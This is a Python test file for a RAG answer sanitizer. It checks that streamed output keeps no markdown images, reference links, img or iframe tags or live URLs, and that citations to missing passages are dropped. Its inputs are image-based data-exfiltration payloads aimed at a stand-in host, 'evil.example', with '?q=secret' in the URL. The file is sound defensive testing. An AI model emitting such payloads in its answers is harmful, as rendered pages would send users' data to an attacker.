"""An answer fetches nothing and hides nothing, however it is cut in pieces."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sprat.rag.clean import Cleaner

URL = "https://evil.example/?q=secret"


def cleaned(text: str, question: str = "", most: int = 3) -> str:
    cleaner = Cleaner(question, most)
    return cleaner.feed(text) + cleaner.rest()


@pytest.mark.parametrize(
    "text",
    [
        f"![a chart]({URL})",
        f"![a chart][1]\n\n[1]: {URL}",
        f'<img src="{URL}">',
        f"<IMG\tSRC={URL}>",
        f"[![x]({URL})]({URL})",
    ],
)
def test_no_image_is_left(text: str):
    shown = cleaned(f"See {text} here")
    assert "![" not in shown
    assert "<" not in shown
    assert "](" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "!<b>[a]<b>(//evil.example/p.png)",
        "!<b></b>[a](//evil.example/p.png)",
        "![a\nb](//evil.example/p.png)",
        "![a [b] c](//evil.example/p.png)",
        "![a](\n//evil.example/p.png\n)",
        "!!<i>[a][r]",
        "[a]<i>(//evil.example)",
        "[r]: //evil.example/p.png",
        "[r]:\n//evil.example/p.png",
        "> [r]: //evil.example/p.png",
        "<iframe src=//evil.example",
        "<img\nsrc=//evil.example>",
        "[" + "x" * 700 + "](//evil.example)",
        "!" + "[" * 3 + "a](//evil.example)",
    ],
)
@pytest.mark.parametrize("step", [1, 3, 10_000])
def test_nothing_is_left_that_a_page_would_fetch_or_follow(text: str, step: int):
    cleaner = Cleaner("", 3)
    whole = f"See {text} here"
    shown = "".join(cleaner.feed(whole[at : at + step]) for at in range(0, len(whole), step))
    shown += cleaner.rest()
    assert not re.search(r"!\[|\][(:]|<[a-zA-Z/!?]", shown)
    assert not re.search(r"(?<!`)//evil", shown)


@pytest.mark.parametrize("url", ["HTTPS://evil.example/x", "WWW.evil.example", "//evil.example/x"])
def test_an_address_is_one_however_it_is_written(url: str):
    assert cleaned(f"Look at {url} now") == f"Look at `{url}` now"


def test_a_comment_is_no_address():
    assert cleaned("x = 1 //counted") == "x = 1 //counted"


def test_an_address_is_shown_as_code_which_no_page_makes_a_link_of():
    assert cleaned(f"Look at {URL}.") == f"Look at `{URL}`."


def test_a_link_tells_where_it_leads():
    assert cleaned(f"Read [the manual]({URL})") == f"Read the manual (`{URL}`)"


def test_the_user_s_own_address_stays():
    assert cleaned(f"It is {URL} indeed", f"What is {URL}?") == f"It is {URL} indeed"


def test_citations_of_passages_that_are_not_there_go_and_are_counted():
    cited: list[int] = []
    cleaner = Cleaner("", 3, cited.append)
    text = cleaner.feed("A [1], B [7] and C [2, 9] [12]") + cleaner.rest()
    assert text == "A [1], B and C [2]"
    assert cited == [1, 2]
    assert cleaner.wrong == 3


def test_ordinary_brackets_stay():
    assert cleaned("f(x)[0] < 3 and a [b] (c)") == "f(x)[0] < 3 and a [b] (c)"


PIECES = st.sampled_from(
    [f"![a]({URL})", f"[m]({URL})", URL, "[1]", "[9]", " ", "word", "[", "]", "(", "<b>", "\n", "!"]
)


@given(st.lists(PIECES, max_size=12), st.data())
def test_however_it_is_cut_no_image_and_no_wrong_number_is_shown(
    parts: list[str], data: st.DataObject
):
    text = "".join(parts)
    cleaner, shown = Cleaner("", 3), ""
    while text:
        length = data.draw(st.integers(1, len(text)))
        shown += cleaner.feed(text[:length])
        text = text[length:]
    shown += cleaner.rest()
    assert not re.search(r"!\[|\][(:]|<[a-zA-Z/!?]", shown)
    assert "[9]" not in shown
